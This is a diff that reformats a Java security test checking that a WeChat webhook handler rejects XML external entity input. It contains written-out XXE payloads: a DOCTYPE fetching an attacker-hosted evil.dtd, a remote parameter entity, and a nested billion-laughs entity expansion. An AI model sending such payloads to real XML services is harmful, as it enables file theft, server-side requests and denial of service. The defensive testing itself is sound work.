@@ -28,7 +28,9 @@ class WechatXxeTest {
     private final FakePlatform attacker = FakePlatform.start();
     private final WechatChannel channel = new WechatChannel(
             WechatReceiveTest.config(null, null, URI.create("http://127.0.0.1:1")),
-            HttpClient.newHttpClient(), Duration.ofSeconds(1), new HandClock(NOW));
+            HttpClient.newHttpClient(),
+            Duration.ofSeconds(1),
+            new HandClock(NOW));
 
     @AfterEach
     void stop() {
@@ -59,8 +61,8 @@ class WechatXxeTest {
     @Test
     void anExternalDtdAndParameterEntitiesAreRefusedWithoutAnyRequest() {
         String body = "<!DOCTYPE xml SYSTEM \"" + attacker.uri() + "/evil.dtd\">" + message("hi");
-        String parameter = "<!DOCTYPE xml [<!ENTITY % remote SYSTEM \"" + attacker.uri() + "/p.dtd\"> %remote;]>"
-                + message("hi");
+        String parameter =
+                "<!DOCTYPE xml [<!ENTITY % remote SYSTEM \"" + attacker.uri() + "/p.dtd\"> %remote;]>" + message("hi");
 
         assertRefused(body);
         assertRefused(parameter);
@@ -72,7 +74,11 @@ class WechatXxeTest {
         StringBuilder dtd = new StringBuilder("<!DOCTYPE xml [<!ENTITY lol0 \"lol\">");
         for (int i = 1; i <= 9; i++) {
             String previous = "&lol" + (i - 1) + ";";
-            dtd.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">");
+            dtd.append("<!ENTITY lol")
+                    .append(i)
+                    .append(" \"")
+                    .append(previous.repeat(10))
+                    .append("\">");
         }
         dtd.append("]>");
 
@@ -96,8 +102,9 @@ class WechatXxeTest {
     }
 
     private void assertRefused(String body) {
-        assertThatThrownBy(() -> receive(body)).isInstanceOfSatisfying(WebhookException.class,
-                e -> assertThat(e.status()).isEqualTo(400));
+        assertThatThrownBy(() -> receive(body))
+                .isInstanceOfSatisfying(
+                        WebhookException.class, e -> assertThat(e.status()).isEqualTo(400));
     }
 
     private static String message(String content) {
